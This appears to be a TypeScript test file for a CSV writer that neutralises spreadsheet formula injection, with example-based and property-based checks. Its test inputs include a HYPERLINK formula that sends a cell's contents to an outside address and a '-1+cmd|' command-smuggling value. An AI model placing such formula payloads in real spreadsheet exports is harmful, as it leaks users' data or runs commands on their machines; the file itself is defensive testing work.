import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvRecord, unguarded } from '../../domain/csv-line.ts';

describe('csvRecord', () => {
  it.each([
    ['=HYPERLINK("http://192.0.2.1/?"&A1)', `"'=HYPERLINK(""http://192.0.2.1/?""&A1)"`],
    ['+1', "'+1"],
    ['-1+cmd|', "'-1+cmd|"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ["'=1", "''=1"],
    ['\n=1', `"'\n=1"`],
    ['＝1＋2', "'＝1＋2"],
    ['a,b', '"a,b"'],
    ['a"b', '"a""b"'],
    ['a\nb', '"a\nb"'],
    ['taro@example.com', 'taro@example.com'],
    ["o'hara@example.com", "o'hara@example.com"],
    ['', ''],
  ])('writes %j as %j', (field, written) => {
    expect(csvRecord([field])).toBe(written);
  });

  it('gives a spreadsheet no formula, whatever a field says', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 8 }), (fields) => {
        const [record = []] = parse(csvRecord(fields), { record_delimiter: '\r\n' }) as string[][];
        expect(record).toHaveLength(fields.length);
        for (const field of record) {
          expect(field).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        }
      }),
    );
  });

  it('is undone by taking off the guard', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(..."'=+-@＝a1") }), (field) => {
        const [[guarded = ''] = []] = parse(csvRecord([field]), { relax_column_count: true }) as string[][];
        expect(unguarded(guarded)).toBe(field);
      }),
    );
  });
});
